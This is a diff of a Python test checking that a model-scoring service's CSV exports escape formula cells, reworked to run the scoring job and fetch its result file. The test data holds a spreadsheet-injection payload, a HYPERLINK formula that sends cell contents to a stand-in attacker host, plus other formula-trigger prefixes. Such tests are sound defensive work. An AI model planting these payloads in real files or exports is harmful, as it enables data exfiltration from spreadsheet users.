@@ -197,8 +197,13 @@ def test_every_export_neutralises_formula_cells_and_leaves_numbers_alone(ready, 
     frame = demo.frame.iloc[2000:2006].drop(columns=["churn"]).copy()
     attacks = ['=HYPERLINK("http://evil.example/?x="&A1,"click")', "+1+1", "-2+3", "@SUM(A1)", "\tx", "-7"]
     frame["customer_id"] = attacks
-    response = client.post("/predict/batch/", {"file": csv_file("score.csv", frame.to_csv(index=False).encode())})
-    assert response.status_code == 200, response.content[:300]
+    client.post("/predict/batch/", {"file": csv_file("score.csv", frame.to_csv(index=False).encode())})
+    from modelhub import scoring
+    from modelhub.models import ScoringJob
+
+    job = scoring.run(ScoringJob.objects.get(original_name="score.csv"))
+    response = client.get(f"/predict/jobs/{job.pk}/result.csv")
+    assert response.status_code == 200, job.error
     rows = list(csv.DictReader(io.StringIO(b"".join(response.streaming_content).decode())))
     assert [row["customer_id"] for row in rows] == ["'" + value for value in attacks]
     assert all(0 <= float(row["probability"]) <= 1 for row in rows)  # numbers stay numbers
